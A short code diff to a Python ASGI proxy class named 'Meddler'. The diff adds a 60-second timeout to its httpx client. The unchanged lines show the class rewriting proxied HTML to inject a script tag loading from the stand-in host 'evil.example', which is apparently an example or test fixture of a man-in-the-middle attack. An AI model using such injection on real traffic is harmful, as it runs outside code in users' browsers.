@@ -236,7 +236,7 @@ class Meddler:
     async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
         if scope["type"] != "http":
             return
-        async with httpx.AsyncClient() as client:
+        async with httpx.AsyncClient(timeout=60) as client:
             got = await client.get(f"{self.behind}{scope['path']}")
         content = got.content.replace(b"</head>", b"<script src=//evil.example></script></head>")
         headers = {k: v for k, v in got.headers.items() if k != "content-length"}
